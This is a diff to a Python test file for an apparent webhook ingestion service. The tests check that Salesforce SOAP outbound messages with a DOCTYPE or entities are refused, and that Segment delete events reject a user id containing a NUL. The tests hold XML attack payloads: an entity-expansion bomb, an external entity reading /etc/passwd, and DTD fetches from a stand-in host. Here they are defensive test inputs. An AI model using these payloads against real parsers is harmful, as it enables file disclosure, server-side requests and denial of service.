@@ -140,20 +140,56 @@ def test_what_is_too_deep_too_long_or_no_text_yields_a_value(kind: str, body: by
             digest(sent(body, {"Content-Type": media_type}), config)
 
 
-LAUGHS: Final = """<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">
-<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>"""
-OUTSIDE: Final = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'
-FETCHED: Final = '<?xml version="1.0"?><!DOCTYPE l SYSTEM "http://192.0.2.1/evil.dtd"><l/>'
-PARAMETER: Final = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]><l/>'
-UNDEFINED: Final = "<l>&nbsp;</l>"
-ENCODED: Final = '<?xml version="1.0" encoding="x-nothing"?><l/>'
+MESSAGE: Final = (
+    '<Envelope xmlns="http://schemas.xmlsoap.org/soap/envelope/"><Body>'
+    '<notifications xmlns="http://soap.sforce.com/2005/09/outbound"><OrganizationId>00D000000000062</OrganizationId>'
+    '<Notification><Id>1</Id><sObject xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="sf:Lead">'
+    "<Email>{}</Email></sObject></Notification></notifications></Body></Envelope>"
+)
+LAUGHS: Final = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>'
+FORBIDDEN: Final = "a document type or entities are not allowed"
 
 
-@pytest.mark.parametrize("body", [LAUGHS, OUTSIDE, FETCHED, PARAMETER, UNDEFINED, ENCODED, "<l/>", "", "<l>"])
-def test_salesforces_xml_may_bring_no_document_type_and_no_entities(body: str) -> None:
-    found = digest(sent(body, {"Content-Type": "text/xml"}), source("salesforce"))
+@pytest.mark.parametrize(
+    ("before", "email", "words"),
+    [
+        (LAUGHS, "&c;", FORBIDDEN),
+        ('<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;", FORBIDDEN),
+        ('<!DOCTYPE l [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]>', "", FORBIDDEN),
+        ('<!DOCTYPE l SYSTEM "http://192.0.2.1/evil.dtd">', "", FORBIDDEN),
+        ("<!DOCTYPE l>", "", FORBIDDEN),
+        ("", "&nbsp;", "malformed XML"),
+        ("", "<a>" * 20 + "</a>" * 20, "nested deeper than 16 levels"),
+        ('<?xml version="1.0" encoding="x-nothing"?>', "", "encoding"),
+        ('<?xml version="1.0" encoding="shift_jis"?>', "", "encoding"),
+    ],
+)
+def test_salesforces_xml_may_bring_no_document_type_no_entities_and_few_levels(
+    before: str, email: str, words: str
+) -> None:
+    assert isinstance(digest(sent(MESSAGE.format("ada@example.com")), source("salesforce")), Read)
+    found = digest(sent(before + MESSAGE.format(email)), source("salesforce"))
     assert isinstance(found, Refusal)
     assert found.reason is RefusalReason.UNREADABLE
+    assert words in found.message
+
+
+@pytest.mark.parametrize("body", ["<l/>", "", "<l>", MESSAGE.replace("Notification>", "Other>").format("")])
+def test_what_is_no_outbound_message_is_unreadable(body: str) -> None:
+    found = digest(sent(body), source("salesforce"))
+    assert isinstance(found, Refusal)
+    assert found.reason is RefusalReason.UNREADABLE
+
+
+def test_whom_to_forget_must_be_an_id_that_can_be_stored() -> None:
+    config = source("segment")
+    found = digest(
+        sent(json.dumps([{"type": "delete", "userId": "a\x00b"}, {"type": "delete", "userId": "b"}])), config
+    )
+    assert isinstance(found, Read)
+    judged = judge(found, config, received_at=RECEIVED_AT, event_bytes_max=None)
+    assert [(bad.position, bad.faults[0].message) for bad in judged.bad] == [(0, "has a NUL character")]
+    assert [item.erase for item in judged.kept] == [{"ids": {"user_id": "b"}}]
 
 
 def test_an_organization_that_is_not_listed_is_a_stranger_in_either_form_of_its_id() -> None:
